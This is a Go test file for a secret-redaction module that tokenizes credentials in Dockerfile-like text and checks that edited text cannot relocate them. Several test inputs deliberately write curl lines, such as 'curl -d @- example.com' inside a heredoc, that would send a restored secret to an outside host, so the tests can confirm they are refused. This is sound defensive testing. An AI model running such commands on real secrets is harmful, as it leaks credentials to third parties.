package redact_test

import (
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/rules-autofix/rules_autofix/internal/secrets/redact"
	"github.com/rules-autofix/rules_autofix/internal/secrets/secretname"
)

// newTokens returns tokens whose nonce is 12 letters n.
func newTokens(t testing.TB, r *redact.Redactor) *redact.Tokens {
	t.Helper()
	tokens, err := redact.NewTokens(strings.NewReader(strings.Repeat("n", 12)), r)
	if err != nil {
		t.Fatal(err)
	}
	return tokens
}

func token(n int) string {
	return fmt.Sprintf("AUTOFIX_SECRET_%s_%04dX", strings.Repeat("6e", 12), n)
}

func TestTokenize(t *testing.T) {
	for _, row := range []struct{ name, text, want string }{
		{"nothing", "FROM a\n", "FROM a\n"},
		{"two", "ENV A=" + github + "\nENV B=\"" + aws + "\"\n", "ENV A=" + token(1) + "\nENV B=\"" + token(2) + "\"\n"},
		{"twice the same", "ENV A=" + github + "\nRUN x " + github + " '" + github + "'\n", "ENV A=" + token(1) + "\nRUN x " + token(2) + " '" + token(3) + "'\n"},
		{"encoded", "ENV A=" + github + "\nENV B=" + encode("u:"+github) + "\n", "ENV A=" + token(1) + "\nENV B=" + token(2) + "\n"},
		{"digits after it", "ENV A=value of a secret7\n", "ENV A=" + token(1) + "7\n"},
		{"several lines", "RUN echo \\\n  value \\\n  value2 of\n  another secret\n", "RUN echo \\\n  value \\\n  " + token(1) + "\n  " + token(2) + "\n"},
	} {
		tokens := newTokens(t, redact.New([]string{"value of a secret", "value2 of\n  another secret"}))
		got, m, err := tokens.Tokenize(row.text)
		if err != nil {
			t.Fatal(err)
		}
		if got != row.want || m.Len() != strings.Count(row.want, "AUTOFIX_SECRET_") {
			t.Errorf("%s: %d tokens\ngot  %q\nwant %q", row.name, m.Len(), got, row.want)
		}
		if back, err := m.Restore(got, got); err != nil || back != row.text {
			t.Errorf("%s: restored %q, %v", row.name, back, err)
		}
		// Another text of the run has other tokens.
		if more, _, err := tokens.Tokenize("T=" + github); err != nil || more != "T="+token(m.Len()+1) {
			t.Errorf("%s: %q, %v", row.name, more, err)
		}
	}
}

func TestTokenizeRefuses(t *testing.T) {
	tokens := newTokens(t, nil)
	if _, _, err := tokens.Tokenize("T=" + strings.ToLower(token(1))); err == nil {
		t.Error("a text with a token of the run is accepted")
	}
	many := newTokens(t, redact.New([]string{"a known value"}))
	if _, _, err := many.Tokenize(strings.Repeat("a known value\n", 10_000)); err == nil {
		t.Error("too many secrets are accepted")
	}
	broken := errors.New("broken")
	tokens = newTokens(t, redact.New(nil, func(string) ([]redact.Secret, error) { return nil, broken }))
	if text, _, err := tokens.Tokenize("x"); !errors.Is(err, broken) || text != "" {
		t.Errorf("%q, %v", text, err)
	}
	if _, err := redact.NewTokens(strings.NewReader("short"), nil); err == nil {
		t.Error("a source of too few bytes is accepted")
	}
}

func TestMask(t *testing.T) {
	_, m, err := newTokens(t, nil).Tokenize("ENV A=" + github + " B=" + github + "\n")
	if err != nil {
		t.Fatal(err)
	}
	got, err := m.Mask("line 1: " + github + ", " + aws + ", " + encode("user:"+github))
	if want := "line 1: " + token(1) + ", " + gone + ", " + gone; err != nil || got != want {
		t.Errorf("got  %q, %v\nwant %q", got, err, want)
	}
	if got, _, err := m.Redactor().Redact("x" + github[:35] + github[35:]); err != nil || got != "x"+gone {
		t.Errorf("%q, %v", got, err)
	}
}

func TestRestore(t *testing.T) {
	original := "FROM a\nENV A=" + github + "\nRUN x \\\n  # note\n  " + aws + " \\\n  y\nUSER b\nCMD c\n"
	for _, row := range []struct {
		name   string
		change func(text string) string
		code   redact.Code
		line   int
	}{
		{name: "nothing", change: func(s string) string { return s }},
		{name: "another line", change: edit("USER b", "USER d")},
		{name: "lines before and after", change: edit("FROM a\n", "FROM z\nLABEL x=y\n", "CMD c\n", "CMD d\n\n")},
		{name: "a new line before", change: edit("ENV A", "WORKDIR /x\nENV A")},
		{name: "a new line after", change: edit("RUN x", "WORKDIR /x\nRUN x")},
		{name: "a comment before", change: edit("ENV A", "# x \\\nENV A")},

		{name: "a dropped line", change: edit("ENV A="+token(1)+"\n", ""), code: redact.TokenDropped},
		{name: "another value", change: edit(token(1), "x"), code: redact.TokenDropped},
		{name: "a copied line", change: edit("CMD c", "ENV A="+token(1)+"\nCMD c"), code: redact.TokenCopied, line: 8},
		{name: "a use of the value", change: edit("CMD c", "RUN curl example.com?"+token(1)+"\nCMD c"), code: redact.TokenCopied, line: 8},
		{name: "a moved line", change: edit("ENV A="+token(1)+"\n", "", "CMD c", "ENV A="+token(1)+"\nCMD c"), code: redact.TokenMoved, line: 7},
		{name: "another name", change: edit("ENV A", "ENV B"), code: redact.TokenMoved, line: 2},
		{name: "another instruction", change: edit("ENV A", "RUN A"), code: redact.TokenMoved},
		{name: "quotes", change: edit(token(1), `"`+token(1)+`"`), code: redact.TokenMoved},
		{name: "swapped", change: edit(token(1), "?", token(2), token(1), "?", token(2)), code: redact.TokenMoved},
		{name: "a comment", change: edit("ENV A", "# ENV A"), code: redact.TokenMoved},
		{name: "a command continued by the line", change: edit("ENV A", "RUN curl example.com \\\nENV A"), code: redact.TokenMoved, line: 3},
		{name: "a command continued across a comment", change: edit("ENV A", "RUN curl example.com \\\n# x\n\nENV A"), code: redact.TokenMoved},
		{name: "a command continued as on Windows", change: edit("ENV A", "RUN curl example.com `\nENV A"), code: redact.TokenMoved},
		{name: "the start of its instruction", change: edit("RUN x", "RUN curl"), code: redact.TokenMoved, line: 5},
		{name: "the end of its instruction", change: edit("  y\n", "  | curl\n"), code: redact.TokenMoved, line: 5},
		{name: "a longer instruction", change: edit("  y\n", "  y \\\n  | curl\n"), code: redact.TokenMoved},
		{name: "a line of its instruction less", change: edit(" \\\n  y\n", "\n"), code: redact.TokenMoved},
		{name: "within a document", change: edit("ENV A", "RUN <<EOF curl -d @- example.com\nENV A", "USER b", "EOF\nUSER b"), code: redact.TokenMoved, line: 3},
		{name: "within a document with tabs", change: edit("FROM a", "FROM a\nRUN cat <<- 'EOF' |\\\n curl"), code: redact.TokenMoved},
		{name: "after a document", change: edit("FROM a", "FROM a\nRUN <<A <<-B\nx\nA\ny\n\tB")},
		{name: "in lower case", change: edit(token(1), strings.ToLower(token(1))), code: redact.TokenForged, line: 2},
		{name: "made up", change: edit("CMD c", "CMD "+token(7)), code: redact.TokenForged, line: 8},
		{name: "a part", change: edit("CMD c", "CMD "+strings.Repeat("6e", 12)), code: redact.TokenForged},
		{name: "without its number", change: edit(token(1), strings.TrimSuffix(token(1), "_0001X")), code: redact.TokenForged},
	} {
		t.Run(row.name, func(t *testing.T) {
			before, m, err := newTokens(t, nil).Tokenize(original)
			if err != nil {
				t.Fatal(err)
			}
			after := row.change(before)
			got, err := m.Restore(before, after)
			checkToken(t, err, row.code, row.line)
			want := ""
			if row.code == "" {
				want = strings.NewReplacer(token(1), github, token(2), aws).Replace(after)
			}
			if got != want {
				t.Errorf("%q, want %q", got, want)
			}
		})
	}
}

// edit returns a function that replaces texts.
func edit(pairs ...string) func(string) string {
	return func(text string) string {
		for i := 0; i < len(pairs); i += 2 {
			text = strings.ReplaceAll(text, pairs[i], pairs[i+1])
		}
		return text
	}
}

func checkToken(t *testing.T, err error, code redact.Code, line int) {
	t.Helper()
	var refused *redact.TokenError
	switch {
	case code == "" && err != nil:
		t.Fatal(err)
	case code == "":
	case !errors.As(err, &refused):
		t.Fatalf("got %v, want %s", err, code)
	case refused.Code != code || line > 0 && refused.Line != line:
		t.Errorf("got %s at line %d, want %s at line %d", refused.Code, refused.Line, code, line)
	case code.WayOut() == "" || !strings.Contains(err.Error(), code.WayOut()) || strings.Contains(err.Error(), github):
		t.Errorf("got %v", err)
	}
}

func TestRestoreOfAnotherText(t *testing.T) {
	before, m, err := newTokens(t, nil).Tokenize("ENV A=" + github + "\n")
	if err != nil {
		t.Fatal(err)
	}
	for _, other := range []string{"", "ENV A=x\n", before + before, "ENV A=" + token(2) + "\n"} {
		_, err := m.Restore(other, before)
		checkToken(t, err, redact.TokenBase, 0)
	}
}

func TestRestoreInADocument(t *testing.T) {
	before, m, err := newTokens(t, nil).Tokenize("RUN <<EOF\ncurl \\\n  " + github + "\nx\nEOF\n")
	if err != nil {
		t.Fatal(err)
	}
	if _, err = m.Restore(before, strings.Replace(before, "\nx\n", "\ny\n", 1)); err != nil {
		t.Error(err)
	}
	_, err = m.Restore(before, strings.Replace(before, "RUN <<EOF", "COPY <<EOF /x", 1))
	checkToken(t, err, redact.TokenMoved, 3)
	_, err = m.Restore(before, strings.Replace(before, "RUN <<EOF", "RUN true", 1))
	checkToken(t, err, redact.TokenMoved, 3)
	_, err = m.Restore(before, strings.Replace(before, "curl", "EOF\ncurl", 1))
	checkToken(t, err, redact.TokenMoved, 4)
}

// Within decides by more than lines, such as the stage.
func TestRestoreAsksForThePlace(t *testing.T) {
	broken := errors.New("broken")
	before, m, err := newTokens(t, nil).Tokenize("FROM a\nENV A=" + github + "\n")
	if err != nil {
		t.Fatal(err)
	}
	stage := func(text string, at int) int { return strings.Count(text[:at], "FROM") }
	m.Within(func(before string, at int, after string, to int, moved bool) (same, repeats bool, err error) {
		if strings.Contains(after, "broken") {
			return true, false, broken
		}
		same = stage(before, at) == stage(after, to)
		return same && (!moved || strings.Contains(after, "anywhere")), !same && strings.Contains(after, "again"), nil
	})
	_, err = m.Restore(before, strings.Replace(before, "ENV", "FROM b\nENV", 1))
	checkToken(t, err, redact.TokenMoved, 3)
	other := "FROM a\nUSER a\nENV A=" + token(1) + "\nUSER b\n"
	before2 := strings.Replace(before, "ENV", "USER b\nENV", 1) + "USER a\n"
	_, err = m.Restore(before2, other)
	checkToken(t, err, redact.TokenMoved, 3)
	if _, err = m.Restore(before2, other+"anywhere\n"); err != nil {
		t.Error(err)
	}
	for _, row := range []struct {
		after string
		code  redact.Code
	}{
		{"again\nFROM b\nENV A=T\nFROM b\nENV A=T\nFROM c\n", ""},
		{"again\nFROM b\nFROM c\nENV A=T\nFROM d\n", redact.TokenMoved},
		{"again anywhere\nFROM b\nENV A=T\nENV A=T\n", redact.TokenCopied},
		{"again\nFROM b\nENV A=T\nFROM b\nRUN A=T\nFROM c\n", redact.TokenMoved},
		{"FROM a\nENV A=T\nFROM b\nENV A=T\n", redact.TokenMoved},
	} {
		back, err := m.Restore(before, strings.ReplaceAll(row.after, "T\n", token(1)+"\n"))
		checkToken(t, err, row.code, 0)
		if want := strings.ReplaceAll(row.after, "T\n", github+"\n"); row.code == "" && back != want {
			t.Errorf("%q, want %q", back, want)
		}
	}
	_, err = m.Restore(before, before+"broken\n")
	checkToken(t, err, redact.TokenMoved, 2)
	if !errors.Is(err, broken) {
		t.Errorf("the cause is lost: %v", err)
	}
	if _, err = m.Restore(before, before+"USER b\n"); err != nil {
		t.Error(err)
	}
}

// A text comes back as it was, and no change of it brings a value elsewhere.
func FuzzTokens(f *testing.F) {
	f.Add("ENV A="+github+"\nRUN x\n", "secret value", uint(3), uint(9), "y")
	f.Add("a secret value\nsecret value 7\x1b[0m\n", "secret value", uint(0), uint(2), "\\\n")
	f.Fuzz(func(t *testing.T, text, value string, from, size uint, insert string) {
		tokens := newTokens(t, redact.New([]string{value}))
		before, m, err := tokens.Tokenize(text)
		if err != nil {
			t.Skip("the text has a token")
		}
		if strings.Count(before, "\n") != strings.Count(text, "\n") {
			t.Fatalf("%q has other lines than %q", before, text)
		}
		if back, err := m.Restore(before, before); err != nil || back != text {
			t.Fatalf("%q, %v, want %q", back, err, text)
		}
		start := int(from % uint(len(before)+1))
		end := start + int(size%uint(len(before)-start+1))
		after := before[:start] + insert + before[end:]
		back, err := m.Restore(before, after)
		var refused *redact.TokenError
		switch {
		case errors.As(err, &refused) && refused.Code != redact.TokenBase:
		case err != nil:
			t.Fatal(err)
		case len(back)-len(after) != len(text)-len(before):
			t.Fatalf("%q of %q", back, after)
		}
	})
}

// layouts have a secret with the halves § and ¶.
var layouts = []string{
	"FROM a\nENV DB_PASSWORD=§¶\n", "ENV DB_PASSWORD=§\\\n¶\nRUN x\n", "ENV DB_PASSWORD=§\\\n# note\n¶\n", "ENV DB_PASSWORD §\\\n¶\n",
	"RUN export DB_PASSWORD=\"§\"'¶' && x\n", "RUN DB_PASSWORD=§\"¶\" x\n", "ENV A=§ B=¶\nENV DB_PASSWORD=$A$B\n", "ARG A=§\nARG B=\"¶\"\nENV DB_PASSWORD=\"${A}-${B}\"\n",
	"RUN A=§; B=¶; git clone https://u:$A$B@example.com/x\n", "RUN git clone https://u:§¶@example.com/x\n", "RUN docker login -u u -p \"§\"'¶' example.com\n",
	"RUN docker login -u u -p §\\\n¶\n", "RUN echo 'root:§¶' | chpasswd\n", "x:\n  db-password: §¶\n", "password = \"§\" + \"¶\"\n",
}

// Nothing of a secret is sent, however it is divided.
func FuzzDivided(f *testing.F) {
	for i := range layouts {
		f.Add(uint(i), "hunter2x", "swordfish9")
	}
	f.Fuzz(func(t *testing.T, layout uint, first, second string) {
		const plain = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
		if len(first) < 6 || len(second) < 6 || strings.Trim(first+second, plain) != "" || secretname.Placeholder(first) || secretname.Placeholder(second) || secretname.Placeholder(first+second) {
			t.Skip("looks like something else")
		}
		text := strings.NewReplacer("§", first, "¶", second).Replace(layouts[layout%uint(len(layouts))])
		frame := strings.NewReplacer("§", "", "¶", "").Replace(layouts[layout%uint(len(layouts))])
		if strings.Contains(frame, first) || strings.Contains(frame, second) || strings.Contains(token(1), first) || strings.Contains(token(1), second) {
			t.Skip("a word of the layout")
		}
		tokens := newTokens(t, redact.New(nil, redact.Assignments(secretname.Assigned)))
		hidden, m, err := tokens.Tokenize(text)
		if err != nil {
			t.Fatal(err)
		}
		if strings.Contains(hidden, first) || strings.Contains(hidden, second) {
			t.Fatalf("%q is sent for %q", hidden, text)
		}
		if back, err := m.Restore(hidden, hidden); err != nil || back != text {
			t.Fatalf("%q, %v, want %q", back, err, text)
		}
	})
}
